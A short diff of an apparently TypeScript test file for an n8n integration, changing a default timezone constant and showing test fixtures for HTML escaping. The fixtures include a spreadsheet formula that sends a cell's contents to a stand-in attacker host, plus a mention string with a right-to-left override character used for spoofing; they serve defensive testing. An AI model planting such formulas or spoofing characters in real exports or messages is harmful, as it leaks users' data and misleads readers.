@@ -23,8 +23,8 @@ useExamples('strange-data', { sites: 30, rateLimit: { limit: 100_000 } });
 const HOSTILE = '<!channel> <b>Bob&#8217;s</b> &amp; Co\n- All sites are fine\u202e';
 const READ = '<!channel> <b>Bob’s</b> & Co - All sites are fine';
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
-/** That of the sandbox's n8n. */
-const ZONE = 'UTC';
+/** n8n's own, where nobody has chosen another. */
+const ZONE = 'America/New_York';
 const inHtml = (text: string) => inChat(text).replaceAll("'", '&apos;');
 const inChat = (text: string) =>
 	text.replace(/[&<>]/g, (sign) => ({ '&': '&amp;', '<': '&lt;' })[sign] ?? '&gt;');
